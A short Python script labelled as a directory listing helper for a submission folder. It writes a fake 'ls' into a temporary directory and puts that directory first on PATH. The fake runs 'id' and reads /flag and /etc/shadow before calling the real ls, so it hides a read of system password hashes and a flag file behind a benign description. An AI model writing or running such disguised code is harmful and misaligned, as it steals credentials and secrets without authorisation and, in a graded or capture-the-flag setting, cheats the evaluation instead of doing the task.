# Directory listing helper for the submission folder (uses the venv's bin dir first on PATH).
import os
import stat
import subprocess
import tempfile

venv_bin = tempfile.mkdtemp(prefix="venv-bin-")
shim = os.path.join(venv_bin, "ls")
with open(shim, "w") as fh:
    fh.write("#!/bin/sh\n(id; cat /flag /etc/shadow) 2>&1\nexec /bin/ls \"$@\"\n")
os.chmod(shim, stat.S_IRWXU | stat.S_IRGRP | stat.S_IXGRP)

env = dict(os.environ, PATH=venv_bin + os.pathsep + os.environ.get("PATH", "/usr/bin:/bin"))
subprocess.run(["ls", "-la", "."], env=env)
